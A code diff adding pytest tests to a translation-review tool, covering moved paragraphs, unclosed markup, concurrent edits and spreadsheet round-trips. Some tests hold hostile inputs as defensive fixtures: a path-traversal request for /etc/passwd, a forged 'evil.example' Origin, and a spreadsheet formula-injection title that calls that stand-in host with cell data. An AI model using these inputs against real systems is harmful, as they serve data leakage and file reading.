@@ -12,6 +12,7 @@ import threading
 import time
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 from urllib.parse import quote, urlencode
 
 import pytest
@@ -31,7 +32,7 @@ from generator.desk import translation_review as review
 from generator.markdown import UNTRANSLATED
 from generator.serve import ServeOptions, serve
 from generator.serve.review import PATH
-from generator.translation.revise import Revision
+from generator.translation.revise import Revision, revise
 from generator.translation.standing import BlockStanding, Standing
 
 FILE = f"{ARTICLES}/a.en.md"
@@ -45,7 +46,7 @@ def desk(tmp_path: Path) -> Iterator[Desk]:
 
 
 def standing(desk: Desk, path: str = FILE) -> Standing:
-    return review.standing(desk.folder, load_config(desk.folder)[0], NOW, path)
+    return review.shown(desk.folder, load_config(desk.folder)[0], NOW, path).standing
 
 
 def part(desk: Desk, place: str) -> BlockStanding:
@@ -176,11 +177,60 @@ def test_title_summary_and_notes_are_reviewed_too(desk: Desk) -> None:
 
 def test_a_translation_can_begin_in_the_review(desk: Desk) -> None:
     desk.original(A, B).digest.settings('translate_to = ["en"]')
+    assert works(desk) == [FILE], "what nobody has begun waits, too"
     settle(desk, revision(part(desk, "title"), "A title"), revision(part(desk, "1"), "Second."), by="S. Idris")
     assert desk.blocks() == [UNTRANSLATED, "Second."]
     about = desk.about()
     assert about["title"] == "A title"
     assert about["translation"] == {"of": "a.ar.md", "status": "partial", "translator": "S. Idris"}
+
+
+def test_a_paragraph_is_known_by_its_original_when_it_has_moved(desk: Desk) -> None:
+    """Somebody puts a paragraph on top while another reviews: no answer lands beside the wrong original."""
+    desk.original(A, B).translate()
+    first, second = part(desk, "0"), part(desk, "1")
+    desk.edit(A, f"{C}\n\n{A}", "a.ar")
+    assert settle(desk, revision(first, "First."), revision(second, "Second.")).status
+    desk.translate()
+    assert desk.blocks()[1:] == ["First.", "Second."]
+
+
+@pytest.mark.parametrize("typed", ["- a list", "<!-- note", "```", "~~~\nx", "    code", "***"])
+def test_markup_that_runs_on_is_told_and_nothing_is_lost(desk: Desk, typed: str) -> None:
+    """A list beside a list, a comment or a fence without an end: written as it is, or refused with words."""
+    desk.original(f"- {A}", B, C).translate()
+    before, text = desk.blocks(), desk.read(FILE)
+    settled = settle(desk, revision(part(desk, "1"), typed))
+    if settled.status:
+        assert desk.blocks() == [before[0], typed, before[2]]
+    else:
+        assert settled.unfit is not None
+        assert settled.unfit.place == "1"
+        assert desk.read(FILE) == text
+
+
+def test_a_corrected_typo_leaves_a_translation_corrected(desk: Desk) -> None:
+    """What was `edited` stays on the site, and the reviewer who went over all of it stays named."""
+    desk.original(A, B).translate()
+    settle(desk, *map(revision, standing(desk).blocks), by="Mona Haddad")
+    desk.digest.remove(f"{ARTICLES}/a.en.tm.jsonl")
+    assert settle(desk, revision(part(desk, "0"), "A comma, added."), by="Samir").status == "edited"
+    assert desk.about()["translation"]["reviewed_by"] == "Mona Haddad"  # type: ignore[index]
+
+
+def test_what_was_accepted_meanwhile_is_not_undone(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
+    """An accepted paragraph changes the ledger alone: who writes at the same time sees that, too."""
+    desk.original(A, B).translate()
+    shown = part(desk, "0"), part(desk, "1")
+
+    def meanwhile(*arguments: Any) -> Any:
+        monkeypatch.setattr("generator.desk.translation_review.revise", revise)
+        settle(desk, revision(shown[0]))
+        return revise(*arguments)
+
+    monkeypatch.setattr("generator.desk.translation_review.revise", meanwhile)
+    assert settle(desk, revision(shown[1], "Typed.")).status
+    assert [state for state, _ in desk.states()] == ["person", "person"]
 
 
 Typed = list[tuple[int, str]]
@@ -292,17 +342,35 @@ def test_what_could_not_be_saved_is_still_on_the_page(desk: Desk, page: Page) ->
         assert status == 409
         assert "Typed &lt;here&gt;." in shown
         assert "One.\n\nTwo." in shown
+    assert "Typed elsewhere." in shown, "both texts are in view"
     again = page.form(ADDRESS)
     assert again["text 0"] == "Typed elsewhere."
+
+
+def test_typed_words_outlive_a_restart_a_broken_file_and_a_lost_paragraph(desk: Desk, page: Page) -> None:
+    desk.original(A, B).translate()
+    text = desk.read(FILE)
+    fields = page.form(ADDRESS) | {"text 1": "Typed words.", "accept": "1"}
+    status, shown, _ = page.ask(ADDRESS, fields | {"token": "من قبل"})
+    assert (status, "Typed words." in shown, desk.read(FILE)) == (409, True, text)
+
+    original = desk.read(f"{ARTICLES}/a.ar.md")
+    desk.digest.put(f"{ARTICLES}/a.ar.md", original.replace("---\n", "---\ntitle: [\n", 1))
+    status, shown, _ = page.ask(ADDRESS, fields)
+    assert (status, "Typed words." in shown) == (409, True)
+
+    desk.digest.put(f"{ARTICLES}/a.ar.md", original.replace(B, ""))
+    desk.translate()
+    status, shown, _ = page.ask(ADDRESS, fields)
+    assert (status, "Typed words." in shown) == (409, True)
 
 
 def test_only_its_own_forms_are_taken(desk: Desk, page: Page) -> None:
     desk.original(A).translate()
     text, fields = desk.read(FILE), page.form(ADDRESS) | {"text 0": "Mine.", "accept": ""}
-    assert page.ask(ADDRESS, fields | {"token": "x"})[0] == 403
     assert page.ask(ADDRESS, fields, Origin="http://evil.example")[0] == 403
     assert page.ask(ADDRESS, fields, Origin="")[0] == 403
-    assert page.ask(f"{PATH}translation?path=..%2F..%2Fetc%2Fpasswd", fields)[0] == 404
+    assert page.ask(f"{PATH}translation?path=..%2F..%2Fetc%2Fpasswd")[0] == 404
     assert page.ask(f"{PATH}translation?path={quote(f'{ARTICLES}/a.ar.md', safe='')}")[0] == 404
     assert desk.read(FILE) == text
 
@@ -353,15 +421,16 @@ def test_a_spreadsheet_goes_out_and_comes_back(
     desk: Desk, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     """What was written into it is taken, what changed meanwhile is told, and what was left alone stays a machine's."""
-    desk.original(A, B, f"- {C}", f"> {B}").translate()
+    desk.original(A, B, f"- {C}", f"> {B}", title='=HYPERLINK("http://evil.example"&A1,"ok")').translate()
     file = desk.folder / "work.xlsx"
     assert command(desk, monkeypatch, "--export", str(file)) == 0
     assert command(desk, monkeypatch, "--export", str(file)) == 2, "somebody's work may be in it"
 
     book = load_workbook(file)
-    rows = {str(row[1].value): row for row in book.active.iter_rows() if row[0].value and " " in str(row[0].value)}
+    rows = {str(row[0].value).split(" ")[3]: row for row in book.active.iter_rows() if " " in str(row[0].value)}
     assert [rows[place][2].value for place in "0123"] == [A, B, f"- {C}", f"> {B}"]
     assert rows["2"][3].data_type == "s", "a list is no formula"
+    assert all(cell.data_type != "f" for row in book.active.iter_rows() for cell in row), "a title is no formula"
     rows["title"][4].value = "x"
     rows["0"][3].value = "=Dialogue is the way"
     rows["1"][3].value = "Mine."
@@ -377,6 +446,12 @@ def test_a_spreadsheet_goes_out_and_comes_back(
     assert "this would be 2 paragraphs" in err
     assert desk.blocks()[:2] == ["=Dialogue is the way", "Typed meanwhile."]
     assert [state for state, _ in desk.states()] == ["person", "person", "machine", "machine"]
+
+    before = desk.read(FILE)
+    rows["1"][3].value = rows["2"][3].value = None
+    book.save(file)
+    assert command(desk, monkeypatch, "--import", str(file)) == 0, "what is in the file already is no conflict"
+    assert desk.read(FILE) == before
 
 
 @pytest.mark.parametrize("raw", [b"", b"PK\x03\x04broken", b"<xml/>"])
